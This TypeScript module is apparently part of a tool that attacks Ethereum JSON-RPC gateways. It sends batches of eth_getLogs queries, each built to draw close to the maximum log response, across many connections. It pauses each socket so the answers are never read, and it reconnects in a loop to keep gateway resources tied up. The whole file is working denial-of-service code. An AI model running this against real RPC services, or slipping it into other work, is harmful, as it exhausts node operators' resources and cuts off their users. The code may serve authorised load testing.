// Callers that send batches of log queries, each near the most logs of one answer, and never read an answer.
import { setTimeout as pause } from "node:timers/promises";
import type { Attack, AttackTarget } from "./attack.ts";
import { openAttackSocket, postBytes } from "./sockets.ts";

export type UnreadBatches = {
  readonly connections: number;
  readonly members: number;
  /** The log filter of each member. */
  readonly filter: object;
  /** Header lines that end with CRLF, such as the Origin of a page. */
  readonly headers?: string;
};

const LOOK_MS = 100;

export const unreadBatches = (options: UnreadBatches): Attack => ({
  name: "unread batches",
  run: async (target, signal) => {
    const { connections, members, filter, headers } = options;
    const body = JSON.stringify(
      Array.from({ length: members }, (_, id) => ({
        jsonrpc: "2.0",
        id,
        method: "eth_getLogs",
        params: [filter],
      })),
    );
    const bytes = postBytes(target, body, headers);
    const hold = (): Promise<void> => holdUnread(bytes, target, signal);
    await Promise.all(Array.from({ length: connections }, hold));
  },
});

/** Opens one connection after the other, each for as long as the gateway keeps it open. */
async function holdUnread(bytes: Buffer, target: AttackTarget, signal: AbortSignal): Promise<void> {
  while (!signal.aborted) {
    const socket = openAttackSocket(target, signal);
    socket.pause();
    socket.write(bytes);
    while (!signal.aborted && !socket.destroyed) await pause(LOOK_MS);
  }
}
